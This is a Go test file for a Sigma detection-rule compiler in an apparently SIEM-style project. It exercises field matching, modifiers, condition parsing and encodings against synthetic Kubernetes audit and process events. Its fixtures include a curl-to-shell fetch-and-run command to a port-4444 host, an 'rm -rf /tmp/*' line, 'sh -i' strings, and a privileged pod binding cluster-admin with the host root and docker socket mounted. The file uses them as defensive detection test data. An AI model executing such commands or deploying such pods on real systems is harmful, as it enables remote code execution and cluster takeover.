package sigma

import (
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/crowsnest-siem/crowsnest/schemas"
)

// Test events, built directly: the normalizer's own tests cover how raw
// records become these fields.
func auditEvent(mut ...func(e *schemas.Event)) *schemas.Event {
	e := &schemas.Event{}
	e.Crowsnest.Source = "k8s_audit"
	e.Event.ID = "a1-ResponseComplete"
	e.Event.Kind = "event"
	a := &e.Kubernetes.Audit
	a.Verb = "create"
	a.ObjectRef.Resource = "pods"
	a.ObjectRef.Namespace = "shop"
	a.User.Username = "system:serviceaccount:dev:ci-deployer"
	a.User.Groups = []string{"system:serviceaccounts", "system:authenticated"}
	a.ResponseStatus.Code = 201
	a.RequestURI = "/api/v1/namespaces/shop/pods?fieldManager=kubectl-run"
	a.Annotations = map[string]string{"authorization_k8s_io/decision": "allow"}
	a.RequestObject = json.RawMessage(`{"kind":"ClusterRoleBinding","roleRef":{"kind":"ClusterRole","name":"cluster-admin"},` +
		`"subjects":[{"kind":"ServiceAccount","name":"ci"},{"kind":"User","name":"Eve"}],"rules":[{"verbs":["get","*"],"resources":["pods"]}],"replicas":3}`)
	e.Kubernetes.PodSpec.HostPaths = []string{"/", "/var/run/docker.sock"}
	e.Kubernetes.PodSpec.AddedCapabilities = []string{"NET_ADMIN", "SYS_ADMIN"}
	t := true
	e.Kubernetes.PodSpec.Privileged = &t
	e.Source.IP = "10.244.2.15"
	e.UserAgent.Original = "kubectl/v1.30.4 (linux/amd64)"
	e.Message = "create pods in shop"
	for _, m := range mut {
		m(e)
	}
	return e
}

func processEvent(cmd string, mut ...func(e *schemas.Event)) *schemas.Event {
	e := &schemas.Event{}
	e.Crowsnest.Source = "tetragon"
	e.Event.Kind = "event"
	e.Event.Category = []string{"process"}
	e.Event.Type = []string{"start"}
	e.Process.CommandLine = cmd
	args := strings.Fields(cmd)
	if len(args) > 0 {
		e.Process.Executable = args[0]
		e.Process.Name = args[0][strings.LastIndexByte(args[0], '/')+1:]
	}
	e.Process.Args = args
	e.Process.Parent.Executable = "/usr/bin/containerd-shim-runc-v2"
	e.Process.WorkingDirectory = "/"
	e.User.Name = "root"
	e.Container.ID = "06e93f41f884"
	for _, m := range mut {
		m(e)
	}
	return e
}

const k8sHeader = "title: t\nlogsource: {product: kubernetes, service: audit}\ndetection:\n"
const procHeader = "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"

func compileString(t *testing.T, src string, opts Options) (*Compiled, error) {
	t.Helper()
	r, err := Parse([]byte(src))
	if err != nil {
		return nil, err
	}
	return Compile(r, opts)
}

func TestMatchSemantics(t *testing.T) {
	audit := auditEvent()
	proc := processEvent("/bin/bash -c curl http://203.0.113.50:4444/x.sh | sh")
	cases := []struct {
		name   string
		header string
		det    string
		ev     *schemas.Event
		want   bool
	}{
		// Plain values: exact, case-insensitive.
		{"exact", k8sHeader, "  s: {verb: create}\n  condition: s", audit, true},
		{"exact is case-insensitive", k8sHeader, "  s: {verb: CREATE}\n  condition: s", audit, true},
		{"exact needs the whole value", k8sHeader, "  s: {verb: crea}\n  condition: s", audit, false},
		{"cased", k8sHeader, "  s: {verb|cased: CREATE}\n  condition: s", audit, false},
		{"cased equal", k8sHeader, "  s: {verb|cased: create}\n  condition: s", audit, true},
		{"list is or", k8sHeader, "  s: {verb: [delete, create]}\n  condition: s", audit, true},
		{"map is and", k8sHeader, "  s: {verb: create, objectRef.resource: secrets}\n  condition: s", audit, false},
		{"list of maps is or", k8sHeader, "  s: [{verb: delete}, {objectRef.resource: pods}]\n  condition: s", audit, true},
		{"many values use a set", k8sHeader, "  s: {verb: [a, b, c, d, e, CREATE]}\n  condition: s", audit, true},
		{"many values none match", k8sHeader, "  s: {verb: [a, b, c, d, e, f]}\n  condition: s", audit, false},
		// Wildcards and escapes.
		{"star", k8sHeader, "  s: {requestURI: '/api/*/pods*'}\n  condition: s", audit, true},
		{"question mark", k8sHeader, "  s: {verb: 'cr?ate'}\n  condition: s", audit, true},
		{"question mark is one char", k8sHeader, "  s: {verb: 'cr?te'}\n  condition: s", audit, false},
		{"escaped star is literal", k8sHeader, "  s: {verb: 'creat\\*'}\n  condition: s", audit, false},
		{"escaped star matches a star", procHeader, "  s: {CommandLine|endswith: '/tmp/\\*'}\n  condition: s", processEvent("rm -rf /tmp/*"), true},
		{"escaped star is not a wildcard", procHeader, "  s: {CommandLine|endswith: '/tmp/\\*'}\n  condition: s", processEvent("rm -rf /tmp/x"), false},
		{"lone star matches any value", k8sHeader, "  s: {hostPath: '*'}\n  condition: s", audit, true},
		{"lone star needs a value", k8sHeader, "  s: {objectRef.subresource: '*'}\n  condition: s", audit, false},
		// contains / startswith / endswith / all.
		{"contains", procHeader, "  s: {CommandLine|contains: CURL}\n  condition: s", proc, true},
		{"startswith", procHeader, "  s: {CommandLine|startswith: /bin/bash}\n  condition: s", proc, true},
		{"endswith", procHeader, "  s: {Image|endswith: /BASH}\n  condition: s", proc, true},
		{"endswith miss", procHeader, "  s: {Image|endswith: /sh}\n  condition: s", proc, false},
		{"contains all", procHeader, "  s: {CommandLine|contains|all: [curl, '| sh']}\n  condition: s", proc, true},
		{"contains all miss", procHeader, "  s: {CommandLine|contains|all: [curl, wget]}\n  condition: s", proc, false},
		{"all across array elements", k8sHeader, "  s: {capabilities|all: [SYS_ADMIN, net_admin]}\n  condition: s", audit, true},
		{"contains with inner wildcard", procHeader, "  s: {CommandLine|contains: 'curl*4444'}\n  condition: s", proc, true},
		// Regular expressions: case-sensitive unless i.
		{"re", procHeader, "  s: {CommandLine|re: 'curl https?://[0-9.]+:4444'}\n  condition: s", proc, true},
		{"re is cased", procHeader, "  s: {CommandLine|re: 'CURL'}\n  condition: s", proc, false},
		{"re i", procHeader, "  s: {CommandLine|re|i: 'CURL'}\n  condition: s", proc, true},
		{"re s", procHeader, "  s: {CommandLine|re|s: 'bash.*sh$'}\n  condition: s", processEvent("/bin/bash -c\nsh"), true},
		{"re without s", procHeader, "  s: {CommandLine|re: 'bash.*sh$'}\n  condition: s", processEvent("/bin/bash -c\nx"), false},
		{"re m", procHeader, "  s: {CommandLine|re|m: '^sh$'}\n  condition: s", processEvent("/bin/bash -c\nsh\nx"), true},
		// Networks and numbers.
		{"cidr", k8sHeader, "  s: {sourceIPs|cidr: 10.244.0.0/16}\n  condition: s", auditEvent(func(e *schemas.Event) { e.Kubernetes.Audit.SourceIPs = []string{"10.244.2.15"} }), true},
		{"cidr miss", k8sHeader, "  s: {source.ip|cidr: 192.168.0.0/16}\n  condition: s", audit, false},
		{"cidr v6", k8sHeader, "  s: {source.ip|cidr: 'fd00::/8'}\n  condition: s", auditEvent(func(e *schemas.Event) { e.Source.IP = "fd00::1" }), true},
		{"int equal", k8sHeader, "  s: {responseStatus.code: 201}\n  condition: s", audit, true},
		{"int as string", k8sHeader, "  s: {responseStatus.code: '201'}\n  condition: s", audit, true},
		{"int wildcard", k8sHeader, "  s: {responseStatus.code: '2*'}\n  condition: s", audit, true},
		{"int miss", k8sHeader, "  s: {responseStatus.code: 403}\n  condition: s", audit, false},
		{"gte", k8sHeader, "  s: {responseStatus.code|gte: 400}\n  condition: s", audit, false},
		{"lt", k8sHeader, "  s: {responseStatus.code|lt: 300}\n  condition: s", audit, true},
		{"gt on json number", k8sHeader, "  s: {requestObject.replicas|gt: 2}\n  condition: s", audit, true},
		{"bool", k8sHeader, "  s: {kubernetes.pod_spec.privileged: true}\n  condition: s", audit, true},
		{"bool as string", k8sHeader, "  s: {kubernetes.pod_spec.privileged: 'false'}\n  condition: s", audit, false},
		// exists and null.
		{"exists", k8sHeader, "  s: {hostPath|exists: true}\n  condition: s", audit, true},
		{"exists false", k8sHeader, "  s: {objectRef.subresource|exists: false}\n  condition: s", audit, true},
		{"null", k8sHeader, "  s: {objectRef.subresource: null}\n  condition: s", audit, true},
		{"null present", k8sHeader, "  s: {verb: null}\n  condition: s", audit, false},
		{"empty string is absent", k8sHeader, "  s: {objectRef.subresource: ''}\n  condition: s", audit, true},
		{"unset nullable bool is null", k8sHeader, "  s: {kubernetes.pod_spec.host_pid: null}\n  condition: s", audit, true},
		// Maps, JSON and array elements.
		{"map key", k8sHeader, "  s: {annotations.authorization_k8s_io/decision: allow}\n  condition: s", audit, true},
		{"json path", k8sHeader, "  s: {requestObject.roleRef.name: cluster-admin}\n  condition: s", audit, true},
		{"json array of objects", k8sHeader, "  s: {requestObject.subjects.name: eve}\n  condition: s", audit, true},
		{"json nested arrays, literal star", k8sHeader, "  s: {requestObject.rules.verbs: '\\*'}\n  condition: s", audit, true},
		{"json missing", k8sHeader, "  s: {requestObject.roleRef.namespace: '*'}\n  condition: s", audit, false},
		{"array index", "title: t\nlogsource: {product: linux, service: auditd}\ndetection:\n", "  s: {a1: -c}\n  condition: s",
			processEvent("/bin/bash -c x", func(e *schemas.Event) { e.Crowsnest.Source = "auditd" }), true},
		{"values rewrite", "title: t\nlogsource: {product: linux, category: network_connection}\ndetection:\n", "  s: {Initiated: 'true'}\n  condition: s",
			processEvent("x", func(e *schemas.Event) { e.Network.Direction = "egress" }), true},
		// fieldref.
		{"fieldref", k8sHeader, "  s: {objectRef.namespace|fieldref: user.domain}\n  condition: s", auditEvent(func(e *schemas.Event) { e.User.Domain = "SHOP" }), true},
		{"fieldref miss", k8sHeader, "  s: {objectRef.namespace|fieldref: user.domain}\n  condition: s", auditEvent(func(e *schemas.Event) { e.User.Domain = "dev" }), false},
		{"fieldref contains", k8sHeader, "  s: {requestURI|fieldref|contains: objectRef.namespace}\n  condition: s", audit, true},
		// Encodings.
		{"base64", procHeader, "  s: {CommandLine|base64|contains: /bin/bash}\n  condition: s", processEvent("echo L2Jpbi9iYXNo"), true},
		{"base64 is not contains", procHeader, "  s: {CommandLine|base64: /bin/bash}\n  condition: s", processEvent("echo L2Jpbi9iYXNo"), false},
		{"base64offset", procHeader, "  s: {CommandLine|base64offset|contains: /bin/bash}\n  condition: s", processEvent("echo eA9iaW4vYmFzaA== | base64 -d"), true},
		{"windash", procHeader, "  s: {CommandLine|windash|contains: ' -c '}\n  condition: s", processEvent("/bin/bash /c x"), true},
		{"windash en dash", procHeader, "  s: {CommandLine|windash|contains: ' -c '}\n  condition: s", processEvent("/bin/bash \u2013c x"), true},
		{"expand", procHeader, "  s: {User|expand: '%admins%'}\n  condition: s", proc, true},
		{"neq", k8sHeader, "  s: {verb|neq: [get, list]}\n  condition: s", audit, true},
		{"neq miss", k8sHeader, "  s: {verb|neq: create}\n  condition: s", audit, false},
		// Keywords: anywhere in the keyword fields.
		{"keywords", k8sHeader, "  k: [nothing, 'PODS IN']\n  condition: k", audit, true},
		{"keyword miss", k8sHeader, "  k: nothing\n  condition: k", audit, false},
		{"keywords all", k8sHeader, "  k:\n    '|all': [create, shop]\n  condition: k", audit, true},
		// Conditions.
		{"not", k8sHeader, "  s: {verb: delete}\n  condition: not s", audit, true},
		{"precedence: not > and > or", k8sHeader, "  a: {verb: create}\n  b: {verb: delete}\n  c: {verb: get}\n  condition: b or a and not c", audit, true},
		{"parentheses", k8sHeader, "  a: {verb: create}\n  b: {verb: delete}\n  c: {verb: get}\n  condition: (b or a) and c", audit, false},
		{"1 of pattern", k8sHeader, "  sel_a: {verb: delete}\n  sel_b: {verb: create}\n  condition: 1 of sel_*", audit, true},
		{"all of pattern", k8sHeader, "  sel_a: {verb: create}\n  sel_b: {objectRef.resource: secrets}\n  condition: all of sel_*", audit, false},
		{"all of them skips _", k8sHeader, "  a: {verb: create}\n  _b: {verb: nope}\n  condition: all of them", audit, true},
		{"1 of them", k8sHeader, "  a: {verb: nope}\n  b: {verb: create}\n  condition: 1 of them", audit, true},
		{"2 of", k8sHeader, "  a: {verb: create}\n  b: {verb: nope}\n  c: {objectRef.resource: pods}\n  condition: 2 of them", audit, true},
		{"condition list is or", k8sHeader, "  a: {verb: nope}\n  b: {verb: create}\n  condition: [a, b]", audit, true},
		{"upper-case operators", k8sHeader, "  a: {verb: create}\n  b: {verb: delete}\n  condition: a AND NOT b", audit, true},
	}
	opts := Options{Placeholders: map[string][]string{"admins": {"admin", "root"}}}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			c, err := compileString(t, tc.header+tc.det, opts)
			if err != nil {
				t.Fatal(err)
			}
			if got := c.Match(tc.ev); got != tc.want {
				t.Fatalf("match = %v, want %v\ncompiled: %s", got, tc.want, c.Describe())
			}
		})
	}
}

func TestCompileErrors(t *testing.T) {
	cases := []struct {
		name, src  string
		construct  string // for an *UnsupportedError
		wantSubstr string
	}{
		{"unknown field", k8sHeader + "  s: {nosuch: x}\n  condition: s", "field:nosuch", "no mapping"},
		{"unknown modifier", k8sHeader + "  s: {verb|frobnicate: x}\n  condition: s", "modifier:frobnicate", "not implemented"},
		{"lookahead", procHeader + "  s: {CommandLine|re: 'a(?=b)'}\n  condition: s", "regex", "RE2"},
		{"no logsource mapping", "title: t\nlogsource: {product: windows, category: process_creation}\ndetection:\n  s: {Image: x}\n  condition: s", "logsource", "no crowsnest events"},
		{"aggregation", k8sHeader + "  s: {verb: x}\n  condition: s | count() > 5", "aggregation", "correlation rule"},
		{"timeframe", k8sHeader + "  s: {verb: x}\n  timeframe: 5m\n  condition: s", "timeframe", "correlation"},
		{"placeholder not configured", procHeader + "  s: {User|expand: '%nope%'}\n  condition: s", "modifier:expand", "not configured"},
		{"unknown identifier", k8sHeader + "  s: {verb: x}\n  condition: t", "", "no detection identifier"},
		{"of matches nothing", k8sHeader + "  s: {verb: x}\n  condition: 1 of x*", "", "matches no detection identifier"},
		{"two match modifiers", k8sHeader + "  s: {verb|contains|startswith: x}\n  condition: s", "", "cannot be combined"},
		{"re flag without re", k8sHeader + "  s: {verb|i: x}\n  condition: s", "", "applies to re only"},
		{"exists needs a bool", k8sHeader + "  s: {verb|exists: yes please}\n  condition: s", "", "exists takes"},
		{"cidr bad", k8sHeader + "  s: {source.ip|cidr: nope}\n  condition: s", "", "cidr"},
		{"gt needs a number", k8sHeader + "  s: {responseStatus.code|gt: abc}\n  condition: s", "", "not a number"},
		{"base64 of wildcard", procHeader + "  s: {CommandLine|base64: 'a*'}\n  condition: s", "", "wildcards"},
		{"map below a keyword field", k8sHeader + "  s: {kubernetes.audit.verb.x: y}\n  condition: s", "", "not a map or JSON"},
		{"alert-only field", k8sHeader + "  s: {rule.level: high}\n  condition: s", "field:rule.level", ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := compileString(t, tc.src, Options{})
			if err == nil {
				t.Fatal("compiled")
			}
			var ue *UnsupportedError
			if tc.construct != "" && (!errors.As(err, &ue) || ue.Construct != tc.construct) {
				t.Fatalf("error %v: want unsupported %s", err, tc.construct)
			}
			if tc.construct == "" && errors.As(err, &ue) {
				t.Fatalf("error %v: want an invalid-rule error, not unsupported", err)
			}
			if !strings.Contains(err.Error(), tc.wantSubstr) {
				t.Fatalf("error %q does not say %q", err, tc.wantSubstr)
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct{ name, src, want string }{
		{"not yaml", "title: [", "yaml"},
		{"no title", "logsource: {product: x}\ndetection: {s: {a: b}, condition: s}", "title is required"},
		{"no detection", "title: t\nlogsource: {product: x}", "detection is required"},
		{"no condition", "title: t\nlogsource: {product: x}\ndetection: {s: {a: b}}", "condition is required"},
		{"bad level", "title: t\nlevel: severe\nlogsource: {product: x}\ndetection: {s: {a: b}, condition: s}", "level"},
		{"empty logsource", "title: t\nlogsource: {}\ndetection: {s: {a: b}, condition: s}", "logsource needs"},
		{"nested map value", "title: t\nlogsource: {product: x}\ndetection: {s: {a: {b: c}}, condition: s}", "scalar"},
		{"empty list", "title: t\nlogsource: {product: x}\ndetection: {s: {a: []}, condition: s}", "empty list"},
		{"duplicate key", "title: t\ntitle: u\nlogsource: {product: x}\ndetection: {s: {a: b}, condition: s}", "appears twice"},
		{"collection", "action: global\ntitle: t", "rule collections"},
		{"empty modifier", "title: t\nlogsource: {product: x}\ndetection: {s: {'a||contains': b}, condition: s}", "empty modifier"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse([]byte(tc.src))
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want it to say %q", err, tc.want)
			}
		})
	}
}

func TestConditionParser(t *testing.T) {
	cases := []struct{ in, want string }{
		{"a", "a"},
		{"a and b or c", "((a and b) or c)"},
		{"a or b and c", "(a or (b and c))"},
		{"not a and b", "(not a and b)"},
		{"not (a or b)", "not (a or b)"},
		{"1 of sel* and not all of filter_*", "(1 of sel* and not all of filter_*)"},
		{"all of them", "all of them"},
		{"any of them", "1 of them"},
		{"3 of x*", "3 of x*"},
		{"((a))", "a"},
		{"not not a", "not not a"},
	}
	for _, tc := range cases {
		e, err := ParseCondition(tc.in)
		if err != nil {
			t.Errorf("%q: %v", tc.in, err)
			continue
		}
		if e.String() != tc.want {
			t.Errorf("%q parsed as %s, want %s", tc.in, e, tc.want)
		}
	}
	for _, bad := range []string{"", "a and", "(a", "a)", "and a", "1 of", "0 of a", "a b", "sel*", "a $ b", "of a", "1 of and"} {
		if e, err := ParseCondition(bad); err == nil {
			t.Errorf("%q parsed as %s", bad, e)
		}
	}
	deep := strings.Repeat("(", 500) + "a" + strings.Repeat(")", 500)
	if _, err := ParseCondition(deep); err == nil {
		t.Error("500 nested parentheses accepted")
	}
}

func TestStringMatchers(t *testing.T) {
	cases := []struct {
		pattern string
		cased   bool
		in      string
		want    bool
	}{
		{"abc", false, "ABC", true},
		{"ÄBC", false, "äbc", true},
		{"*ÄB*", false, "xxäbyy", true},
		{"Ä*", false, "äx", true},
		{"*Ä", false, "xä", true},
		{"a*b*c", false, "AxxBxxC", true},
		{"a*b*c", false, "AxxBxx", false},
		{"a?c", false, "aéc", true},
		{"*", false, "", true},
		{`C:\Windows\*`, false, `c:\windows*`, true},
		{`C:\Windows\*`, false, `c:\windows\system32`, false},
		{`C:\Windows\\*`, false, `c:\windows\system32`, true},
		{`a\\*`, false, `a\bcd`, true},
		{`a\\\*`, false, `a\*`, true},
		{"abc", true, "ABC", false},
		{"*b*", true, "aBc", false},
		{"**a", false, "xxa", true},
	}
	for _, tc := range cases {
		m := newStrMatcher(parseSigmaString(tc.pattern), tc.cased)
		if got := m.match(tc.in); got != tc.want {
			t.Errorf("%q (cased %v) on %q = %v, want %v", tc.pattern, tc.cased, tc.in, got, tc.want)
		}
	}
}

func TestTransforms(t *testing.T) {
	// The base64offset variants pySigma produces.
	got := base64Offsets("/bin/bash")
	want := []string{"L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("base64offset(/bin/bash) = %v, want %v", got, want)
	}
	if got := base64Offsets("sh -i"); strings.Join(got, ",") != "c2ggLW,NoIC1p,zaCAta" {
		t.Errorf("base64offset(sh -i) = %v", got)
	}
	w, err := windash("-a /b")
	if err != nil || len(w) != 25 || w[0] != "-a -b" {
		t.Errorf("windash = %d %v %v", len(w), w[:1], err)
	}
	if _, err := windash(strings.Repeat(" -x", 20)); err == nil {
		t.Error("windash with 20 options expanded")
	}
	if s := encodeUTF16("ab", false, false); s != "a\x00b\x00" {
		t.Errorf("utf16le %q", s)
	}
}

func TestRuleSizeIsBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString(procHeader + "  s:\n    CommandLine|windash|contains:\n")
	for i := range 100 {
		fmt.Fprintf(&b, "      - '-a%d -b -c -d -e'\n", i)
	}
	b.WriteString("  condition: s\n")
	_, err := compileString(t, b.String(), Options{})
	var ue *UnsupportedError
	if !errors.As(err, &ue) || ue.Construct != "size" {
		t.Fatalf("error %v, want unsupported size", err)
	}
}
